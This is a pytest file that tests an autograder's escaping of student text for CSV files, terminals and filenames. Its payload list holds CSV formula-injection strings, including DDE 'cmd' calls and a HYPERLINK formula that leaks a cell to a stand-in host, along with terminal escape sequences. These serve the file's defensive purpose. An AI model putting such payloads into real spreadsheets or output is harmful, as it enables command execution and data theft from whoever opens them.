"""Student text made safe for spreadsheets, terminals and UTF-8 files: autograder/safe_text.py and report.py."""
import os
from dataclasses import dataclass

import pytest

from autograder.report import format_summary, read_csv, write_csv
from autograder.safe_text import display_name, for_csv, for_terminal

PAYLOADS = ["=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1",
            '=HYPERLINK("http://evil.example/?leak="&A1, "click")']


SAFE = {payload: "'" + payload for payload in PAYLOADS} | {"\r=1+1": "\\x0d=1+1"}  # a control character is escaped


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_cell_that_would_start_a_formula_gets_a_quote(payload):
    assert for_csv(payload) == SAFE[payload]


def test_a_cell_never_carries_terminal_escapes():
    assert for_csv("esc\x1b[31mred\nnext") == "esc\\x1b[31mred\nnext"


@pytest.mark.parametrize("value", ["alice", "f_tests: expected 2, got 3", "", " =not first", "a=b", "1-2"])
def test_other_text_is_unchanged(value):
    assert for_csv(value) == value


@pytest.mark.parametrize("value", [2.0, -1.5, 0, None, True])
def test_values_that_are_not_text_are_unchanged(value):
    assert for_csv(value) is value


def test_bytes_that_are_not_utf8_are_written_as_escapes():
    name = os.fsdecode(b"caf\xe9_\xff.ipynb")  # as os.listdir gives it
    assert for_csv(name) == "caf\\xe9_\\xff.ipynb"
    assert for_csv(os.fsdecode(b"-\xe9")) == "'-\\xe9"


@dataclass
class GradeRow:
    student_id: str
    grade_id: str
    score: float
    detail: str


def test_grades_with_formulas_are_written_and_read_back_as_text(tmp_path):
    rows = [GradeRow(payload, "f_tests", -1.5 if i else 2.0, payload) for i, payload in enumerate(PAYLOADS)]
    rows.append(GradeRow(os.fsdecode(b"caf\xe9"), "g_tests", 1.0, "AssertionError: expected 2, got 3"))
    write_csv(rows, tmp_path / "grades.csv", GradeRow)
    read_back = read_csv(tmp_path / "grades.csv")
    assert [r["student_id"] for r in read_back] == [SAFE[p] for p in PAYLOADS] + ["caf\\xe9"]
    assert [r["detail"] for r in read_back][:len(PAYLOADS)] == [SAFE[p] for p in PAYLOADS]
    assert [r["score"] for r in read_back] == ["2.0"] + ["-1.5"] * (len(PAYLOADS) - 1) + ["1.0"]
    assert not any(r[key].startswith(("=", "+", "-", "@", "\t", "\r"))
                   for r in read_back for key in ("student_id", "detail"))
    assert [p.name for p in tmp_path.iterdir()] == ["grades.csv"], "no temporary file is left"


def test_control_characters_are_shown_escaped_on_a_terminal():
    assert for_terminal("a\x1b[2Jb\x07c\x7fd\x9be") == "a\\x1b[2Jb\\x07c\\x7fd\\x9be"
    assert for_terminal("evil\u202egpj.ipynb") == "evil\\u202egpj.ipynb"
    assert for_terminal("line\nnext\ttab\r") == "line\\x0anext\\x09tab\\x0d"
    assert for_terminal("line\nnext\ttab\r\x1b", multiline=True) == "line\nnext\ttab\\x0d\\x1b"
    assert for_terminal(os.fsdecode(b"caf\xe9")) == "caf\\xe9"
    assert for_terminal("Zoë 张伟 plain") == "Zoë 张伟 plain"


def test_display_names_are_printable_and_utf8():
    assert display_name(b"caf\xc3\xa9\xff\x1b.ipynb") == "café\\xff\\x1b.ipynb"
    assert display_name(os.fsdecode(b"caf\xe9/x.ipynb")) == "caf\\xe9/x.ipynb"
    assert display_name("..\\evil.ipynb") == "..\\evil.ipynb"
    shown = display_name(os.fsdecode(b"\x80\xfe\n\x00"))
    assert shown.isprintable() and shown.encode("utf-8")


def test_the_summary_table_escapes_what_it_prints():
    @dataclass
    class Summary:
        student_id: str
        assignment: str
        score: float
        max_score: float
        status: str
        late_penalty: float = 0.0

    table = format_summary([Summary("eve\x1b]0;owned\x07", os.fsdecode(b"a\xff"), 1.0, 2.0, "graded")])
    assert "\x1b" not in table and "eve\\x1b]0;owned\\x07" in table and "a\\xff" in table
    table.encode("utf-8")
